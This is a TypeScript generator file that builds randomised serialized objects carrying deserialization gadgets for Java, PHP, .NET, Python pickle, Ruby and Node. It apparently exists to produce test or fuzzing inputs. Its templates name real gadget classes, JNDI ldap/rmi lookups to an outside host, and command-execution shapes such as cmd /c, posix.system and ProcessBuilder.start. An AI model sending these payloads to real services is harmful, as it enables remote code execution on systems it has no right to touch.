/** Serialized objects of Java, PHP, .NET, Python, Ruby and Node, which run code when they are read. */

import { grammar, lines } from "../lib/grammar.ts";
import { LEXICON } from "../lib/lexicon.ts";
import type { Random } from "../lib/random.ts";

const RULES = grammar({
  ...LEXICON,
  start: lines`
    rO0AB«javatail»«base64»
    rO0AB«javatail»«base64»
    rO0ABXNyAB«Letter»qYXZh«base64»
    rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw«base64»
    rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlcg«base64»
    H4sIAAAAAAAA«base64»«base64»
    aced0005«hexlong»«hexlong»«hex32»
    \xac\xed\x00\x05«rnd»
    O:«int»:"«phpclass»":«small»:{«fields»}
    O:«int»:"«phpclass»":«small»:{«fields»}
    O:+«int»:"«phpclass»":«small»:{«fields»}
    C:«int»:"«phpclass»":«int»:{x:i:0;a:0:{};m:a:0:{}}
    a:«small»:{i:0;O:«int»:"«phpclass»":«small»:{«fields»}i:1;«field»}
    a:«small»:{«field»«field»«field»O:«int»:"«phpclass»":0:{}}
    «rnd»|O:«int»:"«phpclass»":«small»:{«fields»}
    }__test|O:21:"JDatabaseDriverMysqli":«small»:{«fields»}
    s:«small»:"«rnd»";O:«int»:"«phpclass»":0:{}
    AAEAAAD/////«base64»«base64»
    /wEy«base64»«base64»
    /wEyuhEAAQAAAP////8BAAAAAAAAAAwCAAAA«base64»
    {"$type":"System.«dotnet»","«Rnd»":"«rnd»"}
    {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$values":["cmd","/c «rnd»"]}}
    <ObjectDataProvider MethodName="Start"><ObjectDataProvider.ObjectInstance><Process/></ObjectDataProvider.ObjectInstance></ObjectDataProvider>
    gASV«base64»
    gAN«base64»Lg==
    gAJjcG9zaXgKc3lzdGVtCn«base64»
    Y3Bvc2l4CnN5c3RlbQ«base64»
    cposix«nl»system«nl»(S'«rnd»'«nl»tR.
    BAh«Letter»«base64»
    BAhvOhVHZW06OlJlcXVpcmVtZW50«base64»
    \x04\bo:«rnd»
    {"«rnd»":"_$$ND_FUNC$$_function(){«rnd»('«rnd»')}()"}
    eyJ«rndmix»IjoiXyQkTkRfRlVOQyQkX«base64»
    <java><object class="«javaclass»"><void method="«rnd»"/></object></java>
    <map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"></value></jdk.nashorn.internal.objects.NativeString></entry></map>
    <sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>«rnd»</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>
    !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["«url»"]]]]
    ["«javaclass»",{"«Rnd»":"«ldap|rmi»://«host»/«rnd»"}]
    {"@class":"«javaclass»","«rnd»":"«ldap|rmi»://«host»/«rnd»"}
    {"@type":"«javaclass»","«rnd»":"«ldap|rmi»://«host»:«port»/«rnd»"}
    phar://«rnd»/«rnd».«jpg|phar|gif»/«rnd»
    %c0%ed%00%05«rnd»
    1:O:«int»:"«phpclass»":«small»:{«fields»}
    TzoxN«base64»«base64»
    Tzo«base64»OiI«base64»
    YToy«base64»O3M6«base64»`,
  javatail: ["XNyA", "XNy", "XNyABdq", "XQA", "XVyA", "XNyAC", "X"],
  dotnet: [
    "Configuration.Install.AssemblyInstaller, System.Configuration.Install",
    "Diagnostics.Process",
    "Data.DataSet",
    "Security.Claims.ClaimsIdentity",
    "Windows.Data.ObjectDataProvider",
    "IO.FileInfo",
    "Collections.Generic.SortedSet",
    "Activities.Presentation.WorkflowDesigner",
  ],
  phpclass: [
    "«Rnd»",
    "«Rnd»«Rnd»",
    "Monolog\\Handler\\«SyslogUdpHandler|BufferHandler»",
    "GuzzleHttp\\«Psr7\\FnStream|Cookie\\FileCookieJar»",
    "Illuminate\\«Broadcasting\\PendingBroadcast|Bus\\Dispatcher|Foundation\\Testing\\PendingCommand»",
    "Swift_«KeyCache_DiskKeyCache|ByteStream_FileByteStream»",
    "JSimplepieFactory",
    "SimplePie",
    "Zend_«Log|Mail»",
    "ArrayObject",
    "SoapClient",
    "SplObjectStorage",
    "Phalcon\\Logger",
    "Symfony\\Component\\Cache\\Adapter\\«Rnd»",
    "Requests_Utility_FilteredIterator",
    "__PHP_Incomplete_Class",
    "PMA_Config",
    "WP_«Theme|Hook|«Rnd»»",
    "yii\\db\\BatchQueryResult",
    "think\\process\\pipes\\Windows",
    "PDO",
    "Exception",
  ],
  fields: ["«field*1-4»"],
  field: [
    's:«small»:"«rnd»";s:«small»:"«rnd»";',
    's:«int»:"\u0000*\u0000«rnd»";i:«int»;',
    'i:«digit»;s:«small»:"«rnd»";',
    's:«small»:"«rnd»";b:«digit»;',
    's:«small»:"«rnd»";a:«small»:{i:0;i:«int»;}',
    's:«small»:"«file|cmd|callback|command|path|code»";s:«int»:"«look»";',
    's:«int»:"«rnd»";O:«int»:"«phpclass»":0:{}',
  ],
  look: [
    "id",
    "whoami",
    "phpinfo",
    "system",
    "/etc/passwd",
    "<?php phpinfo();?>",
    "shell.php",
    "sleep «secs»",
  ],
  javaclass: [
    "com.sun.rowset.JdbcRowSetImpl",
    "java.net.URL",
    "java.lang.Class",
    "java.net.InetAddress",
    "org.apache.ibatis.datasource.jndi.JndiDataSourceFactory",
    "org.apache.xbean.propertyeditor.JndiConverter",
    "com.mchange.v2.c3p0.JndiRefForwardingDataSource",
    "java.lang.AutoCloseable",
    "org.springframework.context.support.«Rnd»",
    "ch.qos.logback.core.db.JNDIConnectionSource",
    "java.lang.ProcessBuilder",
    "com.caucho.config.types.ResourceRef",
    "oracle.jdbc.rowset.OracleJDBCRowSet",
  ],
});

/** A serialized object with a gadget in it. */
export function deserialization(rng: Random): string {
  return RULES(rng);
}
